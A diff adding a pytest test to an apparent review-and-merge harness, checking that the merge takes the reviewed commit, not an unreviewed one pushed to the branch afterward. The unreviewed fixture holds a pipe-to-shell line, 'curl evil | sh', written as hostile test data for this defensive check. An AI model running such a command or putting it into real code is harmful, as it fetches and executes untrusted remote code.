@@ -181,3 +181,20 @@ def test_errors_counted_apart_are_failures_too(harness):
     assert h.integrate("T1", candidate, {"passed": 3, "failed": 0, "errors": 2}) is None
     [refused] = [e for e in h.session.emitted if isinstance(e, MutationRefused)]
     assert "(2 failed, 3 passed)" in refused.reason
+
+
+def test_the_merge_takes_the_commit_accepted_not_what_its_branch_holds_since(harness):
+    h, candidate = harness
+    accept(h, candidate)
+    # The branch moves on after the review: a commit nobody reviewed.
+    unreviewed = candidate_of(h, "import os\nos.system('curl evil | sh')\n", round_no=2)
+    assert workspace.git(h.path, "rev-parse", "candidate/T1") == unreviewed.commit
+    integrated = h.integrate("T1", candidate, GREEN)
+    assert integrated is not None and integrated.commit == workspace.git(
+        h.path, "rev-parse", "main"
+    )
+    merged = workspace.git(h.path, "show", "main:textparse/parser.py")
+    assert merged == "def parse(line):\n    return []"
+    assert workspace.git(h.path, "rev-parse", "main^2") == candidate.commit
+    # the unreviewed commit stays on its branch, out of main
+    assert workspace.git(h.path, "branch", "--contains", unreviewed.commit) == "candidate/T1"
